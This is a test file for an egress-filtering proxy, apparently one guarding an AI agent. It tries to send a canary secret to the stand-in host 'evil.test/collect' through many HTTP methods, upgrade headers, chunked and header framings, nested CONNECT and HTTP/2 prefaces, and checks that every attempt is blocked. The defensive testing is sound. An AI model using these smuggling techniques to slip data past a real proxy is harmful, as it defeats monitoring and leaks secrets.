// Attack: any HTTP feature as a way past the pipeline. Every method (standard, WebDAV, made-up),
// every upgrade offer (h2c, websocket, TLS/1.0, made-up, websocket without Connection: upgrade)
// and every body framing (length, chunked with the value split across chunks, Expect:
// 100-continue, in a header) is tried toward a guarded non-service host with the canary value,
// through the HTTPS tunnel and through plain http://. Each must be refused (an error status, or the
// connection closed) with zero bytes at the upstream. A new feature that skips the pipeline (as
// `Connection: Upgrade` once did) fails here. Controls without the canary prove the harness sees
// traffic that does get through.
import { describe, expect, test } from "bun:test";
import { randomBytes } from "node:crypto";
import { type HttpConnection, readResponse, type RawResponse } from "../support/proxy-client.ts";
import { type Broker, brokerForFile } from "../support/upgrade-broker.ts";

let B: Broker;
brokerForFile("av-features-", (broker) => (B = broker));

const METHODS = ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "FROBNICATE"];

const UPGRADES: Record<string, () => string[]> = {
  none: () => [],
  h2c: () => ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"],
  websocket: () => ["Connection: Upgrade", "Upgrade: websocket", `Sec-WebSocket-Key: ${randomBytes(16).toString("base64")}`, "Sec-WebSocket-Version: 13"],
  "websocket without Connection": () => ["Upgrade: websocket", `Sec-WebSocket-Key: ${randomBytes(16).toString("base64")}`, "Sec-WebSocket-Version: 13"],
  "TLS/1.0": () => ["Connection: Upgrade", "Upgrade: TLS/1.0"],
  "made-up, two Connection headers": () => ["Connection: keep-alive", "Connection: upgrade", "Upgrade: x-tunnel/9"],
  "websocket, h2c": () => ["Connection: Upgrade", "Upgrade: websocket, h2c"],
};

/** Where the canary goes and how the body is framed: the head lines and the bytes after the head. */
const FRAMINGS: Record<string, (canary: string) => { head: string[]; body: string[] }> = {
  length: (c) => ({ head: [`Content-Length: ${c.length + 2}`], body: [`c=${c}`] }),
  "chunked, split across chunks": (c) => {
    const cut = Math.floor(c.length / 2);
    return { head: ["Transfer-Encoding: chunked"], body: [`${cut.toString(16)}\r\n${c.slice(0, cut)}\r\n`, `${(c.length - cut).toString(16)}\r\n${c.slice(cut)}\r\n0\r\n\r\n`] };
  },
  "Expect: 100-continue": (c) => ({ head: ["Expect: 100-continue", `Content-Length: ${c.length}`], body: [c] }),
  header: (c) => ({ head: [`X-Canary: ${c}`], body: [] }),
};

interface Outcome {
  readonly res: RawResponse | null;
  readonly upstreamBytes: Buffer;
}

async function attempt(via: "tunnel" | "http", method: string, upgrade: string[], framing: { head: string[]; body: string[] }): Promise<Outcome> {
  const conn: HttpConnection = via === "tunnel" ? await B.tunnel("evil.test") : await B.plain();
  const tlsMark = B.upstream.wire.length;
  const plainMark = B.plainWire.length;
  const target = via === "tunnel" ? "/collect" : "http://evil.test/collect";
  const auth = via === "http" ? [`Proxy-Authorization: ${B.proxyAuth}`] : [];
  conn.socket.write(`${[`${method} ${target} HTTP/1.1`, "Host: evil.test", ...auth, ...upgrade, ...framing.head].join("\r\n")}\r\n\r\n`);
  for (const part of framing.body) {
    await Bun.sleep(20);
    if (!conn.socket.destroyed) conn.socket.write(part);
  }
  let res: RawResponse | null = null;
  try {
    res = await readResponse(conn.reader, { method, timeoutMs: 5_000 });
    if (res.status === 100) res = await readResponse(conn.reader, { method, timeoutMs: 5_000 });
  } catch {
    res = null; // closed or silent: a refusal, as long as nothing went upstream
  }
  await Bun.sleep(30);
  conn.close();
  const upstreamBytes = via === "tunnel" ? B.wireFor("evil.test", tlsMark) : Buffer.concat(B.plainWire.slice(plainMark));
  if (res) B.outputs.push(res.text, JSON.stringify(res.headers));
  return { res, upstreamBytes };
}

function expectRefused(o: Outcome, what: string): void {
  if (o.res) expect(o.res.status, `${what}: ${o.res.status} ${o.res.text.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
  expect(o.res?.text ?? "", what).not.toContain(B.secret);
  expect(o.upstreamBytes.toString("latin1"), what).not.toContain(B.secret);
  expect(o.upstreamBytes.length, `${what}: ${o.upstreamBytes.length} bytes reached the upstream`).toBe(0);
}

describe("every method × upgrade × framing with the canary, to a guarded host: refused, zero bytes upstream", () => {
  for (const via of ["tunnel", "http"] as const) {
    for (const [upgradeName, upgrade] of Object.entries(UPGRADES)) {
      test(`${via}, upgrade: ${upgradeName}`, async () => {
        for (const method of METHODS) {
          for (const [framingName, framing] of Object.entries(FRAMINGS)) {
            // Plain http:// gets every method but only two framings, to keep the run short.
            if (via === "http" && !["length", "header"].includes(framingName)) continue;
            expectRefused(await attempt(via, method, upgrade(), framing(B.secret)), `${via} ${method} upgrade=${upgradeName} framing=${framingName}`);
          }
        }
      }, 60_000);
    }
  }
});

describe("controls: without the canary the same features do reach the upstream (the harness sees traffic)", () => {
  for (const upgradeName of ["none", "h2c", "TLS/1.0", "made-up, two Connection headers"]) {
    test(`tunnel, POST, upgrade: ${upgradeName}`, async () => {
      const o = await attempt("tunnel", "POST", UPGRADES[upgradeName]!(), FRAMINGS["chunked, split across chunks"]!("harmless-text-here"));
      expect(o.res?.status).toBe(200);
      expect(o.upstreamBytes.toString("latin1")).toContain("harmless-text-here");
      expect(o.upstreamBytes.toString("latin1").toLowerCase()).not.toContain("upgrade:");
    });
  }
});

describe("what cannot be inspected inside a tunnel is refused", () => {
  test("CONNECT inside an intercepted tunnel: 501, nothing upstream", async () => {
    const o = await attempt("tunnel", "CONNECT", [], { head: [], body: [B.secret] });
    expect(o.res?.status).toBe(501);
    expect(o.res?.json()).toMatchObject({ error: "not_supported" });
    expectRefused(o, "CONNECT in a tunnel");
  });

  test("an HTTP/2 prior-knowledge preface inside the tunnel: closed, nothing upstream", async () => {
    const conn = await B.tunnel("evil.test");
    const mark = B.upstream.wire.length;
    conn.socket.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), Buffer.from(B.secret)]));
    expect(await conn.reader.closesWithin(5000)).toBe(true);
    expect(B.wireFor("evil.test", mark).length).toBe(0);
  });
});

test("no value in anything the agent got or in the request log", async () => {
  await Bun.sleep(200);
  for (const out of [...B.outputs, B.log()]) expect(out).not.toContain(B.secret);
});
